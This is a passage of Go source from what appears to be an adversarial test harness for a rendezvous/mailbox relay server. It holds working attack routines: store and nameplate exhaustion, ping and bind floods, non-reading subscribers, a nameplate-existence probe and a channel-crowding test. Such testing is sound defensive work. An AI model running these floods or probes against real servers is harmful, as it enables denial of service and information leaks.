	if err := c.do(`{"type": "open", "mailbox": %q, "id": "0002"}`, mailbox); err != nil {
		return 0, err
	}
	body := strings.Repeat("a", attackBodyLen)
	n := 0
	for range attackAddsPerMailbox + attackTopUps {
		if a.stopped() {
			return n, nil
		}
		err := c.do(`{"type": "add", "phase": "%d", "body": %q, "id": "0003"}`, n, body)
		a.sent.Add(1)
		var r errRefused
		switch {
		case err == nil:
			n++
			if n == attackAddsPerMailbox {
				return n, nil
			}
		case errors.As(err, &r) && string(r) == errStoreFull.Error() && len(body) > attackMinBody:
			a.refusal(string(r))
			body = body[:len(body)/2] // top the store up with what still fits
		default:
			return n, err
		}
	}
	return n, nil
}

// storeFill: each address opens up to --attack-conns mailboxes, in
// several made-up apps (so no one app's share stops it), and fills each,
// until the server refuses something other than a full mailbox.
func storeFill(a *attacker) {
	var stored atomic.Int64
	var wg sync.WaitGroup
	for k, ip := range a.addrs {
		wg.Go(func() {
			for i := 0; i < a.conns && !a.stopped(); i++ {
				c, err := a.welcomed(ip, attackApp(fmt.Sprintf("store-fill-%d", i%4)), "filler", 0)
				if err != nil {
					return
				}
				n, err := a.fillMailbox(c, fmt.Sprintf("sf-%d-%d", k, i))
				c.Close()
				stored.Add(int64(n))
				if err != nil {
					a.account(err)
					var r errRefused
					if !errors.As(err, &r) || string(r) != errMailboxFull.Error() {
						return // refused for the server's or the address's sake: this address is done
					}
				}
			}
		})
	}
	wg.Wait()
	a.note("%d bodies of up to %d KiB accepted", stored.Load(), attackBodyLen>>10)
	a.ready()
}

// nameplateFill: each address claims --attack-conns nameplates, one per
// connection, rotating over two made-up apps and the victim's, then
// re-claims them every attackReclaimInterval until the attack ends.
func nameplateFill(a *attacker) {
	apps := []string{attackApp("nameplate-fill-1"), attackApp("nameplate-fill-2"), loadAppID}
	var claimed atomic.Int64
	claim := func(ip net.IP, addr, i int) bool {
		app := apps[i%len(apps)]
		c, err := a.welcomed(ip, app, fmt.Sprintf("np%d", addr), 0)
		if err != nil {
			return false
		}
		defer c.Close()
		a.sent.Add(1)
		err = c.do(`{"type": "claim", "nameplate": "%d", "id": "0002"}`, 1+addr*a.conns+i)
		if err != nil {
			a.account(err)
			return false
		}
		return true
	}
	a.forEach(a.conns, func(ip net.IP, addr, i int) {
		if claim(ip, addr, i) {
			claimed.Add(1)
		}
	})
	a.note("%d nameplates claimed", claimed.Load())
	a.ready()
	a.wg.Go(func() {
		for {
			select {
			case <-time.After(attackReclaimInterval):
			case <-a.stop:
				return
			}
			a.forEach(a.conns, func(ip net.IP, addr, i int) { claim(ip, addr, i) })
		}
	})
}

// pingFloodBatch is how many pings a flooding connection writes at once.
const pingFloodBatch = 64

// pingFlood: each connection writes app-level pings as fast as the
// server takes them, reading the pongs.
func pingFlood(a *attacker) {
	var pongs atomic.Int64
	start := time.Now()
	a.forEach(a.conns, func(ip net.IP, addr, i int) {
		c, err := a.welcomed(ip, attackApp("ping-flood"), fmt.Sprintf("p%d-%d", addr, i), 0)
		if err != nil || !a.hold(c) {
			return
		}
		var batch []byte
		for n := range pingFloodBatch {
			batch = append(batch, attackFrame(true, attackOpText, fmt.Appendf(nil, `{"type": "ping", "ping": %d}`, n))...)
		}
		if c.write(batch) != nil { // the first batch before the attack counts as set up
			return
		}
		a.sent.Add(pingFloodBatch)
		a.wg.Go(func() {
			for !a.stopped() {
				if c.write(batch) != nil {
					return
				}
				a.sent.Add(pingFloodBatch)
			}
		})
		a.wg.Go(func() {
			for {
				m, err := c.read()
				if err != nil {
					a.account(err)
					return
				}
				switch m.Type {
				case "pong":
					pongs.Add(1)
				case "error":
					a.refusal(m.Error)
				}
			}
		})
	})
	a.ready()
	a.wg.Go(func() {
		<-a.stop
		a.note("%d pongs in %.1f s", pongs.Load(), time.Since(start).Seconds())
	})
}

// noRead: per address, one connection fills a mailbox, then
// --attack-conns subscribers with a small receive buffer open it (as one
// side, so it is not crowded) and never read what it sends them.
func noRead(a *attacker) {
	app := attackApp("no-read")
	var wg sync.WaitGroup
	for k, ip := range a.addrs {
		wg.Go(func() {
			mailbox := fmt.Sprintf("nr-%d", k)
			c, err := a.welcomed(ip, app, "feeder", 0)
			if err != nil {
				return
			}
			if !a.hold(c) {
				return
			}
			n, err := a.fillMailbox(c, mailbox)
			if err != nil {
				a.account(err)
			}
			a.note("%s: %d bodies of %d KiB", mailbox, n, attackBodyLen>>10)
			a.wg.Go(func() { a.drain(c) })
			for range a.conns {
				if a.stopped() {
					return
				}
				s, err := a.welcomed(ip, app, "subscriber", attackRecvBuffer)
				if err != nil {
					continue
				}
				if err := s.send(`{"type": "open", "mailbox": %q, "id": "0002"}`, mailbox); err != nil || !a.hold(s) {
					s.Close()
					continue
				}
				a.sent.Add(1)
			}
		})
	}
	wg.Wait()
	a.ready()
}

// bindFlood: --attack-conns loops per address connect, bind, ping and
// disconnect, as fast as the server lets them.
func bindFlood(a *attacker) {
	var binds atomic.Int64
	start := time.Now()
	var first sync.WaitGroup // every loop has made its first attempt
	for k, ip := range a.addrs {
		for j := range a.conns {
			bind := func(i int) {
				c, err := a.welcomed(ip, attackApp("bind-flood"), fmt.Sprintf("b%d-%d-%d", k, j, i), 0)
				if err != nil {
					return
				}
				if err := c.do(`{"type": "ping", "ping": 1}`); err == nil {
					binds.Add(1)
				} else {
					a.account(err)
				}
				c.Close()
			}
			first.Add(1)
			a.wg.Go(func() {
				bind(0)
				first.Done()
				for i := 1; !a.stopped(); i++ {
					bind(i)
				}
			})
		}
	}
	first.Wait()
	a.ready()
	a.wg.Go(func() {
		<-a.stop
		a.note("%d binds in %.1f s", binds.Load(), time.Since(start).Seconds())
	})
}

// probeNameplates: the first address creates probeKnown waiting
// nameplates; the second uses up its allowance of new nameplates, then
// claims those and --attack-conns free ones, and compares the replies.
func probeNameplates(a *attacker) {
	defer a.ready()
	app := attackApp("probe-nameplates")
	known := map[string]bool{}
	for i := range probeKnown {
		c, err := a.welcomed(a.addrs[0], app, fmt.Sprintf("owner%d", i), 0)
		if err != nil {
			return
		}
		if !a.hold(c) {
			return
		}
		a.sent.Add(1)
		c.send(`{"type": "allocate", "id": "0002"}`)
		m, err := c.waitFor(func(m attackMsg) bool { return m.Type == "allocated" })
		if err == nil {
			err = c.do(`{"type": "claim", "nameplate": %q, "id": "0003"}`, m.Nameplate)
		}
		if err != nil {
			a.account(err)
			a.note("could not create the nameplates to look for: %v", err)
			return
		}
		known[m.Nameplate] = true
	}
	// claimAs claims nameplate from the prober's address and returns the
	// reply: "claimed" or the error's text.
	claimAs := func(nameplate string, i int) string {
		c, err := a.welcomed(a.addrs[1], app, fmt.Sprintf("probe%d", i), 0)
		if err != nil {
			return "connection failed"
		}
		defer c.Close()
		a.sent.Add(1)
		c.send(`{"type": "claim", "nameplate": %q, "id": "0002"}`, nameplate)
		if _, err := c.waitFor(func(m attackMsg) bool { return m.Type == "claimed" }); err != nil {
			var r errRefused
			if errors.As(err, &r) {
				a.refusal(string(r))
				return "error: " + string(r)
			}
			return err.Error()
		}
		return "claimed"
	}
	exhausted := false
	for i := 0; i < probeExhaustTries && !a.stopped(); i++ {
		if claimAs(strconv.Itoa(900_000+i), i) != "claimed" {
			exhausted = true
			break
		}
	}
	if !exhausted {
		a.note("the new-nameplate allowance did not run out in %d claims", probeExhaustTries)
	}
	var candidates []string
	for n := range known {
		candidates = append(candidates, n)
	}
	for n := 1; len(candidates) < len(known)+a.conns && n < 1_000_000; n++ {
		if s := strconv.Itoa(n); !known[s] {
			candidates = append(candidates, s)
		}
	}
	forKnown, forFree := map[string]int{}, map[string]int{}
	for i, n := range candidates {
		if a.stopped() {
			break
		}
		reply := claimAs(n, probeExhaustTries+i)
		if known[n] {
			forKnown[reply]++
		} else {
			forFree[reply]++
		}
	}
	leaked := false
	for reply := range forKnown {
		if forFree[reply] == 0 {
			leaked = true
		}
	}
	a.note("existing nameplates answered %v; free ones %v", forKnown, forFree)
	a.note("existence leaked: %v", map[bool]string{true: "yes", false: "no"}[leaked])
}

// crowd: --attack-conns times, a pair (from the victim's address) opens a
// channel and exchanges a message, a third side claims the nameplate and
// opens the mailbox, then the pair's first side reconnects, claims and
// opens again as a reconnecting client does.
func crowd(a *attacker) {
	defer a.ready()
	app := attackApp("crowd")
	reopened := 0
	thirdClaim, thirdOpen, again := map[string]int{}, map[string]int{}, map[string]int{}
	reply := func(err error) string {
		var r errRefused
		switch {
		case err == nil:
			return "ok"
		case errors.As(err, &r):
			return string(r)
		}
		return err.Error()
	}
	trials := len(a.addrs) * a.conns
	for i := 0; i < trials && !a.stopped(); i++ {
		attackerIP := a.addrs[i%len(a.addrs)]
		pa, err := a.welcomed(attackPairIP, app, "a", 0)
		if err != nil {
			return
		}
		defer pa.Close()
		pa.send(`{"type": "allocate", "id": "0002"}`)
		m, err := pa.waitFor(func(m attackMsg) bool { return m.Type == "allocated" })
		if err != nil {
			a.account(err)
			return
		}
		nameplate := m.Nameplate
		pa.send(`{"type": "claim", "nameplate": %q, "id": "0003"}`, nameplate)
		m, err = pa.waitFor(func(m attackMsg) bool { return m.Type == "claimed" })
		if err != nil {
			a.account(err)
			return
		}
		mailbox := m.Mailbox
		pb, err := a.welcomed(attackPairIP, app, "b", 0)
		if err != nil {
			return
		}
		defer pb.Close()
		if err := errors.Join(pa.do(`{"type": "open", "mailbox": %q, "id": "0004"}`, mailbox),
			pb.do(`{"type": "claim", "nameplate": %q, "id": "0003"}`, nameplate),
			pb.do(`{"type": "open", "mailbox": %q, "id": "0004"}`, mailbox)); err != nil {
			a.account(err)
			a.note("the pair could not meet: %v", err)
			return
		}
		c, err := a.welcomed(attackerIP, app, "c", 0)
		if err != nil {
			return
		}
		defer c.Close()
		a.sent.Add(2)
		thirdClaim[reply(c.do(`{"type": "claim", "nameplate": %q, "id": "0003"}`, nameplate))]++
		thirdOpen[reply(c.do(`{"type": "open", "mailbox": %q, "id": "0004"}`, mailbox))]++
		pa.Close()
		pa2, err := a.welcomed(attackPairIP, app, "a", 0)
		if err != nil {
			return
		}
		defer pa2.Close()
		err = pa2.do(`{"type": "claim", "nameplate": %q, "id": "0003"}`, nameplate)
		if err == nil {
			err = pa2.do(`{"type": "open", "mailbox": %q, "id": "0004"}`, mailbox)
		}
		again[reply(err)]++
		if err == nil {
			reopened++
		}
	}
	a.note("third side's claim: %v; its open: %v", thirdClaim, thirdOpen)
	a.note("the pair's side re-opened %d of %d times (%v)", reopened, trials, again)
}
